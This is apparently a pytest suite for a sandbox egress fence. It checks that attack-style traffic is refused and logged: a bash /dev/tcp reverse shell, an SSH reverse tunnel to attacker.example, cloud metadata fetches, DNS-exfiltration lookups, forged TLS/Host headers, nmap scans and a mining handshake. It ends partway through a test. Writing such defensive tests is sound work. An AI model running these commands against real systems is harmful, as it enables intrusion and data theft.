"""The egress fence, against real clients and attack tools and local stand-ins for the world.

Names in policies map to 127.0.0.1 through `hosts:` (or through `LocalUpstream`'s resolver), and
`LocalUpstream` turns the port a sandbox asked for into the port the local server really listens on.
Nothing here leaves the test's loopback-only network namespace.
"""

from __future__ import annotations

import contextlib
import hashlib
import ipaddress
import os
import shutil
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from corral import Deny, Policy, Sandbox
from corral.egress.rules import IPAddress
from corral.egress.upstream import dial
from corral.events import DnsQuery, NetConnect, SandboxStop
from corral.isolation import _linux as L
from corral.isolation import child, netns, sockdiag
from helpers import show, wait_until
from servers import (
    HOST_KEY_ALIAS,
    LocalUpstream,
    http_server,
    package_index,
    ssh_server,
    stratum_pool,
    tcp_listener,
    tls_server,
)

pytestmark = pytest.mark.root


def policy(egress: list[dict[str, Any]], hosts: dict[str, str] | None = None, **limits: Any) -> Policy:
    network: dict[str, Any] = {"egress": egress, "hosts": hosts or {}}
    if limits:
        network["limits"] = limits
    # The fence must hold on its own: tripwires would kill most of these attacks before they reach
    # it (test_tripwires.py covers that), so here they are off.
    return Policy.from_dict({"version": 1, "network": network, "tripwires": {"enabled": False}})


def connects(sb: Sandbox) -> list[NetConnect]:
    return [e for e in sb.events() if isinstance(e, NetConnect)]


def denials(sb: Sandbox, layer: str = "egress") -> list[Deny]:
    return [e for e in sb.events() if isinstance(e, Deny) and e.layer == layer]


@pytest.fixture
def web() -> Iterator[Any]:
    with http_server() as s:
        yield s


WEB = "web.example.internal"


def test_allowed_name_works_through_the_explicit_and_the_transparent_path(web: Any) -> None:
    up = LocalUpstream({80: web.port})
    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        r = sb.exec(f"curl -sS http://{WEB}/host && curl -sS --noproxy '*' http://{WEB}/host", text=True)
        assert r.exit_code == 0, show(r)
        assert r.stdout == WEB * 2
        events = connects(sb)
    assert [(e.via, e.decision, e.protocol, e.name, e.address) for e in events] == [
        ("proxy", "allow", "http", WEB, "127.0.0.1"),
        ("transparent", "allow", "http", WEB, "127.0.0.1"),
    ]
    assert all(e.bytes_in > 0 and e.bytes_out > 0 for e in events)
    # Attributed on the host side to the process that connected.
    assert all(e.process is not None and e.process.exe == "/usr/bin/curl" for e in events)


def test_pip_installs_from_the_allowed_index_and_nothing_else(tmp_path: Path) -> None:
    name = "pypi.example.internal"
    with package_index(tmp_path / "index") as index:
        up = LocalUpstream({80: index.port})
        p = policy([{"host": name, "ports": [80], "protocols": ["http"]}], {name: "127.0.0.1"})
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            r = sb.exec(
                f"python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target /tmp/site "
                f"--trusted-host {name} --index-url http://{name}/simple/ corral-probe && "
                "PYTHONPATH=/tmp/site python3 -c 'import corral_probe; print(corral_probe.VALUE)'",
                text=True,
                timeout=120,
            )
            assert r.exit_code == 0, show(r)
            assert str(r.stdout).strip() == "42"
            other = sb.exec(
                "python3 -m pip download -q --disable-pip-version-check --no-cache-dir "
                "--retries 0 --timeout 3 "
                "-d /tmp/x --trusted-host other-index.example.internal "
                "--index-url http://other-index.example.internal/simple/ corral-probe",
                text=True,
                timeout=60,
            )
            assert other.exit_code != 0
            assert any(
                d.what.startswith("other-index.example.internal") for d in denials(sb, "dns") + denials(sb)
            )


def test_a_bulk_transfer_arrives_whole_both_ways_and_is_counted() -> None:
    # Large enough for the relay's read buffer to grow to its largest and be refilled many times.
    size = 24 << 20
    served = os.urandom(size)
    with http_server(served) as web:
        up = LocalUpstream({80: web.port})
        p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            r = sb.exec(
                f"head -c {size} /dev/urandom > /tmp/up && sha256sum < /tmp/up && "
                f"curl -sS --noproxy '*' --data-binary @/tmp/up http://{WEB}/ | sha256sum",
                text=True,
                timeout=60,
            )
            events = connects(sb)
    assert r.exit_code == 0, show(r)
    sent, received = (line.split()[0] for line in str(r.stdout).splitlines())
    assert sent == hashlib.sha256(web.requests[-1].body).hexdigest()
    assert received == hashlib.sha256(served).hexdigest()
    [event] = events
    # Each way: the body plus its HTTP head.
    assert size < event.bytes_out < size + 1024
    assert size < event.bytes_in < size + 1024


_HALF_CLOSE_ROUNDS = 20
_GREETING = b"server speaks first\n" * 4000
_HTTP_HALF_CLOSE = """
import socket, sys
s = socket.create_connection((sys.argv[1], 8080), 5)
s.sendall(b"GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % sys.argv[1].encode())
s.shutdown(socket.SHUT_WR)
got = b""
while chunk := s.recv(65536):
    got += chunk
sys.stdout.buffer.write(got)
"""


def test_a_half_close_reaches_the_server_and_the_answer_still_comes_back() -> None:
    # nc with nothing to send shuts its side at once; the server's greeting, and what it sends after
    # seeing that EOF, must still arrive whole, every time (a race lost it about one run in three).
    # Both relays: a rule for any protocol relays through the event loop, a checked one on threads.
    with tcp_listener(_GREETING, answer_at_eof=True) as server:
        up = LocalUpstream({7000: server.port, 8080: server.port})
        p = policy(
            [
                {"host": WEB, "ports": [7000], "protocols": ["any"]},
                {"host": WEB, "ports": [8080], "protocols": ["http"]},
            ],
            {WEB: "127.0.0.1"},
        )
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            sb.write_file("http_half_close.py", _HTTP_HALF_CLOSE)
            rounds = []
            for command in (
                f"nc {WEB} 7000 < /dev/null",
                f"printf ping | nc {WEB} 7000",
                f"python3 http_half_close.py {WEB}",
            ):
                loop = f"for i in $(seq {_HALF_CLOSE_ROUNDS}); do {command} | sha256sum; done"
                r = sb.exec(loop, text=True, timeout=120)
                assert r.exit_code == 0, show(r)
                rounds.append([line.split()[0] for line in str(r.stdout).splitlines()])
            events = connects(sb)
    request = next(bytes(c.data) for c in server.connections if c.data.startswith(b"GET"))
    expected = [_GREETING + b"got:", _GREETING + b"got:ping", _GREETING + b"got:" + request]
    for got, answer in zip(rounds, expected, strict=True):
        assert got == [hashlib.sha256(answer).hexdigest()] * _HALF_CLOSE_ROUNDS
    assert len(events) == 3 * _HALF_CLOSE_ROUNDS
    assert all(e.decision == "allow" and e.bytes_in == len(_GREETING) + 4 for e in events[:20])


_AFTER_EOF = """
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
if sys.argv[3] == "ssh":
    s.sendall(b"SSH-2.0-OpenSSH_9.2\\r\\n")
got = b""
while chunk := s.recv(65536):
    got += chunk
s.sendall(b"after your eof:%d" % len(got))
"""


def test_a_server_half_close_reaches_the_client_and_the_client_can_still_send() -> None:
    # The other way round: the server says its piece and shuts its side; what the client sends
    # after seeing that EOF must still reach it, on either relay.
    with tcp_listener(_GREETING, eof_after_greeting=True) as server:
        up = LocalUpstream({7000: server.port, 2222: server.port})
        p = policy(
            [
                {"host": WEB, "ports": [7000], "protocols": ["any"]},
                {"host": WEB, "ports": [2222], "protocols": ["ssh"]},
            ],
            {WEB: "127.0.0.1"},
        )
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            sb.write_file("after_eof.py", _AFTER_EOF)
            for port, first in ((7000, "nothing"), (2222, "ssh")):
                client = f"python3 after_eof.py {WEB} {port} {first}"
                r = sb.exec(
                    f"for i in $(seq {_HALF_CLOSE_ROUNDS}); do {client}; done", text=True, timeout=120
                )
                assert r.exit_code == 0, show(r)
        rounds = 2 * _HALF_CLOSE_ROUNDS
        assert wait_until(lambda: sum(c.closed for c in server.connections) == rounds)
    tail = b"after your eof:%d" % len(_GREETING)
    expected = [tail] * _HALF_CLOSE_ROUNDS + [b"SSH-2.0-OpenSSH_9.2\r\n" + tail] * _HALF_CLOSE_ROUNDS
    assert [bytes(c.data) for c in server.connections] == expected


def test_tls_to_an_allowed_name_checks_the_sni(tmp_path: Path) -> None:
    name = "files.example.internal"
    with tls_server(name) as site:
        up = LocalUpstream({443: site.port})
        p = policy([{"host": name, "ports": [443]}], {name: "127.0.0.1"})
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            sb.write_file("ca.pem", Path(site.cafile).read_bytes())
            ok = sb.exec(f"curl -sS --cacert ca.pem https://{name}/host", text=True)
            assert ok.exit_code == 0, show(ok)
            assert ok.stdout == name
            synthetic = str(sb.exec(f"getent hosts {name}", text=True).stdout).split()[0]
            # The allowed name's address, with another server name in the ClientHello: domain fronting.
            forged = sb.exec(
                f"curl -sS -k --noproxy '*' --resolve evil.example:443:{synthetic} https://evil.example/",
                text=True,
            )
            assert forged.exit_code != 0, show(forged)
        assert site.sni == [name]
    tls = [e for e in connects(sb) if e.protocol == "tls"]
    assert [(e.decision, e.sni) for e in tls] == [("allow", name), ("deny", "evil.example")]
    assert "TLS server name 'evil.example' does not match" in tls[1].reason


def test_forged_host_header_is_cut(web: Any) -> None:
    up = LocalUpstream({80: web.port})
    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        r = sb.exec(f"curl -sS --noproxy '*' -H 'Host: evil.example' http://{WEB}/host", text=True)
        assert r.exit_code != 0, show(r)
        assert any("HTTP Host 'evil.example' does not match" in d.detail for d in denials(sb))
    assert web.requests == []


def test_a_second_request_on_a_kept_alive_connection_is_checked_too(web: Any) -> None:
    # curl reuses its connection for the next URL; the second names another Host.
    up = LocalUpstream({80: web.port})
    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        both = sb.exec(f"curl -sS --noproxy '*' http://{WEB}/host http://{WEB}/host", text=True)
        assert both.exit_code == 0 and both.stdout == WEB * 2, show(both)
        forged = sb.exec(
            f"curl -sS --noproxy '*' http://{WEB}/host --next --noproxy '*' -H 'Host: evil.example' "
            f"http://{WEB}/host",
            text=True,
        )
        assert forged.exit_code != 0 and forged.stdout == WEB, show(forged)
        assert any("HTTP Host 'evil.example' does not match" in d.detail for d in denials(sb))
    assert [r.host for r in web.requests] == [WEB] * 3


_KEEP_ALIVE = """
import socket, sys
first = b"GET /host HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % sys.argv[1].encode()
second = b"GET /host HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
s = socket.create_connection((sys.argv[1], 80), 5)
if sys.argv[2] == "pipelined":
    s.sendall(first + second)
else:
    s.sendall(first)
    answer = b""
    while not answer.endswith(sys.argv[1].encode()):
        answer += s.recv(4096)
    s.sendall(second)
    sys.stdout.buffer.write(answer)
while chunk := s.recv(4096):
    sys.stdout.buffer.write(chunk)
"""


@pytest.mark.parametrize("how", ["keep-alive", "pipelined"])
def test_a_server_that_keeps_connections_open_never_sees_a_second_request(how: str) -> None:
    # The fence, not the server, ends the connection: this server would answer every request on it.
    with http_server(ignore_close=True) as web:
        up = LocalUpstream({80: web.port})
        p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            sb.write_file("keep_alive.py", _KEEP_ALIVE)
            r = sb.exec(["python3", "keep_alive.py", WEB, how], text=True, timeout=30)
            reused = sb.exec(f"curl -sS --noproxy '*' http://{WEB}/host http://{WEB}/host", text=True)
            events = connects(sb)
            denied = denials(sb)
        hosts = [r.host for r in web.requests]
    assert r.exit_code == 0, show(r)
    # One answer, to the first request, then the end of the connection.
    assert str(r.stdout).count("HTTP/1.1 200") == 1 and str(r.stdout).endswith(WEB), show(r)
    # curl, finding its reused connection closed without an answer, opens a new one.
    assert reused.exit_code == 0 and reused.stdout == WEB * 2, show(reused)
    assert hosts == [WEB] * 3
    forged = events[0]
    assert forged.decision == "deny" and forged.sni == WEB
    assert "HTTP Host 'evil.example' does not match the name connected to" in forged.reason
    assert [d.detail for d in denied] == [forged.reason]
    # The reused connection's held-back request is no denial: both of curl's connections are allowed.
    assert [e.decision for e in events[1:]] == ["allow", "allow"]
    assert sum("the client must reconnect" in e.reason for e in events[1:]) == 1


def test_ssh_is_allowed_only_where_named(tmp_path: Path) -> None:
    git, https = "git.example.internal", "code.example.internal"
    with ssh_server(tmp_path / "sshd") as sshd:
        up = LocalUpstream({22: sshd.port, 443: sshd.port})
        p = policy(
            [{"host": git, "ports": [22], "protocols": ["ssh"]}, {"host": https, "ports": [443]}],
            {git: "127.0.0.1", https: "127.0.0.1"},
        )
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            sb.write_file("key", Path(sshd.client_key).read_bytes())
            sb.write_file("known_hosts", Path(sshd.known_hosts).read_bytes())
            ssh = (
                "chmod 600 key && ssh -F /dev/null -i key -o BatchMode=yes -o UserKnownHostsFile=known_hosts "
                f"-o StrictHostKeyChecking=yes -o HostKeyAlias={HOST_KEY_ALIAS} -o ConnectTimeout=5"
            )
            ok = sb.exec(f"{ssh} -p 22 {sshd.user}@{git} echo via-ssh", text=True, timeout=30)
            assert ok.exit_code == 0, show(ok)
            assert "via-ssh" in str(ok.stdout)
            # SSH to a host allowed for HTTPS only: the banner gives it away.
            wrong = sb.exec(f"{ssh} -p 443 {sshd.user}@{https} true", text=True, timeout=30)
            assert wrong.exit_code != 0, show(wrong)
            # A reverse tunnel to a host no rule names.
            tunnel = sb.exec(f"{ssh} -N -R 9000:localhost:22 -p 22 {sshd.user}@attacker.example", timeout=30)
            assert tunnel.exit_code != 0
        reasons = [d.detail for d in denials(sb)]
        assert any("ssh to code.example.internal port 443 is not allowed" in r for r in reasons), reasons
        assert any(d.what.startswith("attacker.example") for d in denials(sb, "dns")), denials(sb, "dns")


@pytest.mark.parametrize(
    "command",
    [
        "nc -w 2 10.1.2.3 22",
        "ncat -w 2 10.20.30.40 4444",
        "python3 -c 'import socket; socket.create_connection((\"169.254.169.254\", 80), 2).recv(1)'",
        "curl -sS -m 3 --noproxy '*' http://169.254.169.254/latest/meta-data/",
    ],
)
def test_internal_and_metadata_addresses_are_refused_and_recorded(command: str) -> None:
    with Sandbox(policy([]), keep_workspace=False) as sb:
        sb.exec(command, timeout=20)
        d = denials(sb)
    assert d, "the attempt left no deny event"
    assert d[0].process is not None and d[0].process.exe is not None
    assert (
        "private address" in d[0].detail
        or "cloud metadata address" in d[0].detail
        or "link-local" in d[0].detail
    )


_CONNECT_ERRORS = """
import errno, socket, sys, threading
def tcp(address, port, blocking):
    s = socket.socket()
    s.setblocking(blocking)
    return errno.errorcode.get(s.connect_ex((address, port)), "0")
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server = socket.create_server(("0.0.0.0", 0))  # 0.0.0.0 reaches it: the sandbox's own loopback
in_thread = []  # a thread that doesn't lead its process connects too
thread = threading.Thread(target=lambda: in_thread.append(tcp("10.9.8.7", 24, True)))
thread.start(); thread.join()
print(tcp("10.9.8.7", 22, True), tcp("10.9.8.7", 23, False), tcp(sys.argv[1], 81, True),
      tcp("198.18.200.1", 80, True), in_thread[0], udp.connect_ex(("10.9.8.7", 53)),
      tcp("0.0.0.0", server.getsockname()[1], True))
"""


def test_a_destination_refused_outright_is_refused_at_connect_and_recorded_once() -> None:
    # A connect the destination alone decides fails as a closed port's does, blocking or not; it
    # used to succeed and then see EOF. A UDP connect, which sends nothing, is left alone, and so is
    # 0.0.0.0, which the kernel connects to the sandbox's own loopback.
    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
    with Sandbox(p, keep_workspace=False, upstream=LocalUpstream({})) as sb:
        sb.write_file("connect.py", _CONNECT_ERRORS)
        r = sb.exec(["python3", "connect.py", WEB], text=True)
        events = connects(sb)
        denied = denials(sb)
    assert r.stdout == "ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED 0 0\n", show(r)
    assert [(e.destination, e.port, e.name, e.decision) for e in events] == [
        ("10.9.8.7", 24, None, "deny"),
        ("10.9.8.7", 22, None, "deny"),
        ("10.9.8.7", 23, None, "deny"),
        ("198.18.0.1", 81, WEB, "deny"),
        ("198.18.200.1", 80, None, "deny"),
    ]
    assert [d.detail for d in denied] == [e.reason for e in events]
    assert events[1].reason == "no egress rule allows 10.9.8.7 port 22 (private address)"
    assert events[3].reason == f"no egress rule allows {WEB} port 81"
    assert all(e.process is not None and e.process.cmdline[1:2] == ["connect.py"] for e in events)


def test_nmap_scan_is_refused_connection_by_connection() -> None:
    if shutil.which("nmap") is None:
        pytest.fail("nmap is not installed; scripts/setup installs it")
    with Sandbox(policy([]), keep_workspace=False) as sb:
        sb.exec("nmap -sT -Pn -n --max-retries 0 -p 22,80 10.0.0.0/30", timeout=60)
        targets = {d.what for d in denials(sb)}
        scan = connects(sb)
    assert {"10.0.0.1 port 22", "10.0.0.2 port 80"} <= targets, targets
    # nmap resets each connection at once, before the proxy can find its socket: the sandbox's
    # seccomp filter reported the connect, so every attempt still names nmap.
    assert len(scan) == 8 and {c.process.exe if c.process else None for c in scan} == {"/usr/bin/nmap"}


def test_denied_names_get_nxdomain_without_any_upstream_query() -> None:
    up = LocalUpstream({})
    with Sandbox(
        policy([{"host": "*.files.example.internal", "ports": [443]}]), keep_workspace=False, upstream=up
    ) as sb:
        r = sb.exec(
            "getent hosts a.files.example.internal; getent hosts files.example.internal; "
            "getent hosts $(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \\n').exfil.example",
            text=True,
        )
        queries = [e for e in sb.events() if isinstance(e, DnsQuery)]
    assert str(r.stdout).startswith("198.18.")
    decisions = {
        (q.name.split(".", 1)[1] if q.name.endswith("exfil.example") else q.name, q.decision) for q in queries
    }
    assert ("a.files.example.internal", "allow") in decisions
    assert ("files.example.internal", "deny") in decisions  # a wildcard never covers the bare parent
    assert ("exfil.example", "deny") in decisions
    assert up.resolved == []  # answering DNS never asks anyone upstream


def test_udp_ipv6_and_icmp_go_nowhere_and_udp_drops_are_recorded() -> None:
    script = """
import socket
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try: s6.sendto(b"x", ("2001:db8::5", 53))
except OSError: print("v6 refused")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fails = 0
for i in range(300):
    try: s.sendto(b"x" * 512, ("192.0.2.9", 9))
    except OSError: fails += 1
print(fails)
"""
    with Sandbox(policy([]), keep_workspace=False) as sb:
        sb.write_file("flood.py", script)
        r = sb.exec(
            "python3 flood.py; curl -sS -m 3 -6 'http://[2001:db8::1]/'; ping -c 1 -W 1 192.0.2.1", text=True
        )
        assert wait_until(lambda: any(d.what == "udp 2001:db8::5 port 53" for d in denials(sb)))
        udp = [d for d in denials(sb) if d.what == "udp 192.0.2.9 port 9"]
    assert str(r.stdout).splitlines()[:2] == ["v6 refused", "300"], show(r)
    assert 1 <= len(udp) <= 100  # every drop refused; logging is rate-limited so a flood can't swamp corral


def test_tcp_over_ipv6_is_refused_at_once_and_recorded() -> None:
    script = (
        "import socket, time\nt = time.monotonic()\n"
        "try: socket.create_connection(('2001:db8::7', 443), 10)\n"
        "except OSError as e: print(type(e).__name__, round(time.monotonic() - t, 1))"
    )
    with Sandbox(policy([]), keep_workspace=False) as sb:
        r = sb.exec(["python3", "-c", script], text=True, timeout=30)
        assert wait_until(lambda: any(d.what == "tcp 2001:db8::7 port 443" for d in denials(sb)))
    assert str(r.stdout).split()[0] == "ConnectionRefusedError", show(r)
    assert float(str(r.stdout).split()[1]) < 1.0, show(r)


def test_static_binary_that_ignores_proxy_settings_is_still_fenced(tmp_path: Path, web: Any) -> None:
    source = tmp_path / "dial.c"
    source.write_text(
        "#include <arpa/inet.h>\n#include <stdio.h>\n#include <sys/socket.h>\n#include <unistd.h>\n"
        "int main(int c, char **v) { struct sockaddr_in a = {AF_INET, htons(8080)}; inet_pton(AF_INET, v[1], "
        "&a.sin_addr); int s = socket(AF_INET, SOCK_STREAM, 0); if (connect(s, (void *)&a, sizeof a)) "
        '{ perror("connect"); return 1; } char r[] = "GET /host HTTP/1.0\\r\\nHost: 192.0.2.10\\r\\n\\r\\n"; '
        "write(s, r, sizeof r - 1); char b[4096]; int n = read(s, b, sizeof b); return n > 0 ? 0 : 2; }\n"
    )
    subprocess.run(["gcc", "-static", "-O1", "-o", str(tmp_path / "dial"), str(source)], check=True)
    up = LocalUpstream({8080: web.port})
    # An address rule: this address, this port, plain HTTP. Mapped to the local server by the upstream.
    p = policy([{"cidr": "192.0.2.10/32", "ports": [8080], "protocols": ["http"]}])
    up.connect = _remap(up, "192.0.2.10")  # type: ignore[method-assign]
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        sb.write_file("dial", (tmp_path / "dial").read_bytes())
        ok = sb.exec("chmod +x dial && env -i ./dial 192.0.2.10", text=True)
        bad = sb.exec("env -i ./dial 192.0.2.11", text=True)
        events = connects(sb)
    assert ok.exit_code == 0, show(ok)
    assert bad.exit_code != 0
    assert [(e.via, e.decision, e.destination) for e in events] == [
        ("transparent", "allow", "192.0.2.10"),
        ("transparent", "deny", "192.0.2.11"),
    ]


def _remap(up: LocalUpstream, address: str) -> Any:
    async def connect(addr: IPAddress, port: int) -> socket.socket:
        up.dialed.append((str(addr), port))
        assert str(addr) == address
        return await dial(ipaddress.ip_address("127.0.0.1"), up.ports[port])

    return connect


def test_stratum_is_cut_even_where_any_protocol_is_allowed() -> None:
    pool = "pool.example.internal"
    with stratum_pool() as miner_pool:
        up = LocalUpstream({3333: miner_pool.port})
        p = policy([{"host": pool, "ports": [3333], "protocols": ["any"]}], {pool: "127.0.0.1"})
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            r = sb.exec(
                "python3 -c 'import socket; "
                's = socket.create_connection(("pool.example.internal", 3333), 5); '
                's.sendall(b"{\\"id\\": 1, \\"method\\": \\"mining.subscribe\\", \\"params\\": '
                '[\\"cpuminer/2.5\\"]}\\n"); print(s.recv(100))\'',
                text=True,
            )
            assert wait_until(lambda: bool(connects(sb)))
            events = connects(sb)
        assert miner_pool.lines == []
    assert str(r.stdout).strip() == "b''", show(r)
    assert [(e.protocol, e.decision) for e in events] == [("stratum", "deny")]
    assert "mining protocol" in events[0].reason


def test_allowed_name_resolving_to_internal_or_metadata_addresses_is_refused() -> None:
    up = LocalUpstream(
        {443: 1}, names={"rebind.example.com": "10.0.0.5", "meta.example.com": "169.254.169.254"}
    )
    p = policy([{"host": "rebind.example.com", "ports": [443]}, {"host": "meta.example.com", "ports": [443]}])
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        sb.exec(
            "curl -sS -m 5 https://rebind.example.com/; curl -sS -m 5 https://meta.example.com/", timeout=30
        )
        reasons = [d.detail for d in denials(sb)]
    assert "rebind.example.com resolves to 10.0.0.5, a private address" in reasons
    assert "meta.example.com resolves to 169.254.169.254, a cloud metadata address" in reasons
    assert up.dialed == []


def test_connection_rate_limit(web: Any) -> None:
    up = LocalUpstream({80: web.port})
    p = policy(
        [{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"}, connections_per_minute=3
    )
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        codes = [sb.exec(f"curl -sS -o /dev/null http://{WEB}/").exit_code for _ in range(4)]
        reasons = [d.detail for d in denials(sb)]
    assert codes[:3] == [0, 0, 0] and codes[3] != 0
    assert reasons == ["over 3 connections per minute"]


def test_the_proxy_and_the_transparent_path_draw_on_one_connection_budget(web: Any) -> None:
    # Abuse: an agent that alternates between HTTP_PROXY and a direct connection gets no more than
    # the budget, and a connect refused at connect() (the seccomp path) is judged on the same count.
    up = LocalUpstream({80: web.port})
    p = policy(
        [{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"}, connections_per_minute=2
    )
    proxied, direct = (
        f"curl -sS -o /dev/null http://{WEB}/",
        f"curl -sS -o /dev/null --noproxy '*' http://{WEB}/",
    )
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        codes = [sb.exec(command).exit_code for command in (proxied, direct, proxied, direct)]
        events = connects(sb)
        reasons = [d.detail for d in denials(sb)]
    assert codes[:2] == [0, 0] and codes[2] != 0 and codes[3] != 0
    assert [(e.via, e.decision) for e in events] == [
        ("proxy", "allow"),
        ("transparent", "allow"),
        ("proxy", "deny"),
        ("transparent", "deny"),
    ]
    assert reasons == ["over 2 connections per minute"] * 2
    assert len(web.requests) == 2


def test_bytes_out_budget_cuts_an_upload(web: Any) -> None:
    up = LocalUpstream({80: web.port})
    p = policy(
        [{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"}, bytes_out_per_minute="4KiB"
    )
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        r = sb.exec(
            f"head -c 200000 /dev/zero | curl -sS -m 10 --data-binary @- http://{WEB}/upload", timeout=30
        )
        what = [d.what for d in denials(sb)]
    assert r.exit_code != 0
    assert "bytes_out" in what
    assert all(len(req.body) < 8192 for req in web.requests)


def test_a_reverse_shell_listener_is_never_reached() -> None:
    with tcp_listener() as catcher, Sandbox(policy([]), keep_workspace=False) as sb:
        sb.exec(f"bash -c 'bash -i >& /dev/tcp/203.0.113.7/{catcher.port} 0>&1'", timeout=20)
        assert not wait_until(lambda: bool(catcher.connections), timeout=0.5)
        assert any(d.what == f"203.0.113.7 port {catcher.port}" for d in denials(sb))


def test_without_corral_serving_the_fence_the_sandbox_has_no_network(web: Any) -> None:
    up = LocalUpstream({80: web.port})
    p = policy([{"host": WEB, "ports": [80], "protocols": ["http"]}], {WEB: "127.0.0.1"})
    with Sandbox(p, keep_workspace=False, upstream=up) as sb:
        assert sb._fence is not None
        sb._fence.close()  # what a crashed proxy leaves behind
        r = sb.exec(
            f"curl -sS -m 3 --noproxy '*' http://198.18.0.1/; getent hosts {WEB}", text=True, timeout=30
        )
    assert r.exit_code != 0
    assert web.requests == []


def test_proxy_clients_are_told_why_with_a_403() -> None:
    with Sandbox(policy([]), keep_workspace=False) as sb:
        r = sb.exec("curl -sS -m 5 https://denied.example.internal/", text=True)
    assert r.exit_code != 0
    assert "CONNECT tunnel failed, response 403" in str(r.stderr), show(r)


_SCAN = """
import socket, struct
for i in range(1, 31):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # reset on close
    try:
        s.connect(("10.0.0.%d" % i, 22))
    except ConnectionRefusedError:
        pass
    s.close()
print("scanned", flush=True)
"""


def _stall_fence(seconds: float, sb: Sandbox) -> None:
    """Keep the egress loop serving `sb` busy for `seconds`, as a loaded machine does: connections
    wait in the kernel's queue, accepted but undecided, while the sandbox goes on."""
    sb.host.egress.loop.call_soon_threadsafe(time.sleep, seconds)


@pytest.mark.parametrize("when", ["command exits", "sandbox closes"])
def test_every_attempt_is_recorded_however_far_the_fence_lags(when: str) -> None:
    # A connect scan is over long before a loaded fence has judged its connections (nmap's 48
    # attempts once went unrecorded, the sandbox closed first). Whether the command returns or the
    # sandbox is closed under a scan still running, each attempt is recorded, and before the stop.
    sb = Sandbox(policy([]), keep_workspace=False)
    try:
        sb.write_file("scan.py", _SCAN)
        _stall_fence(0.5, sb)
        if when == "command exits":
            r = sb.exec("python3 scan.py", text=True, timeout=30)
            assert r.stdout == "scanned\n", show(r)
            assert len(connects(sb)) == 30
        else:
            r = sb.exec("python3 scan.py > out & while [ ! -s out ]; do sleep 0.01; done", timeout=30)
            assert r.exit_code == 0, show(r)
    finally:
        sb.close()
    events = sb.events()
    scanned = [e for e in events if isinstance(e, NetConnect)]
    assert sorted(e.destination for e in scanned) == sorted(f"10.0.0.{i}" for i in range(1, 31))
    assert all(e.process is not None and e.process.cmdline[-1] == "scan.py" for e in scanned)
    assert all(e.decision == "deny" and e.port == 22 for e in scanned)
    assert {d.what for d in denials(sb)} >= {f"10.0.0.{i} port 22" for i in range(1, 31)}
    assert isinstance(events[-1], SandboxStop)


_LOOPBACK_SIZES = """
import socket, struct
nl = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
ifinfo = struct.pack("=BxHiII", socket.AF_UNSPEC, 0, socket.if_nametoindex("lo"), 0, 0)
nl.send(struct.pack("=IHHII", 16 + len(ifinfo), 18, 1, 1, 0) + ifinfo)  # RTM_GETLINK
reply, off, sizes = nl.recv(65536), 32, {}
while off + 4 <= len(reply):
    length, kind = struct.unpack_from("=HH", reply, off)
    if kind in (41, 59, 63):  # IFLA_GSO_MAX_SIZE, IFLA_TSO_MAX_SIZE, IFLA_GSO_IPV4_MAX_SIZE
        sizes[kind] = struct.unpack_from("=I", reply, off + 4)[0]
    off += (length + 3) & ~3
print(sizes[41], sizes[59], sizes[63])
"""


def test_the_sandbox_loopback_takes_the_largest_segments_lo_allows() -> None:
    # Every byte between a sandbox and the fence crosses its lo; 64 KiB segments cost the proxy
    # about a fifth of its throughput.
    with Sandbox(policy([]), keep_workspace=False) as sb:
        r = sb.exec(["python3", "-c", _LOOPBACK_SIZES], text=True)
    assert r.exit_code == 0, show(r)
    gso, tso, gso_ipv4 = (int(x) for x in str(r.stdout).split())
    assert tso > 65536  # this kernel has BIG TCP on lo
    assert gso == gso_ipv4 == tso


def test_the_fence_routes_ipv6_whatever_proc_the_intermediate_child_sees_by_then() -> None:
    # The intermediate child sets up the fence while init builds the sandbox's root in the mount
    # namespace they share; once init has pivoted, "/proc" there is the sandbox's, without that
    # child's pid. Reading /proc/self/net then failed now and again, the sandbox started without its
    # IPv6 default route, and its IPv6 attempts failed with "network unreachable" before netfilter,
    # unrecorded. Here the child's /proc is an empty directory from the start.
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child reports through the pipe
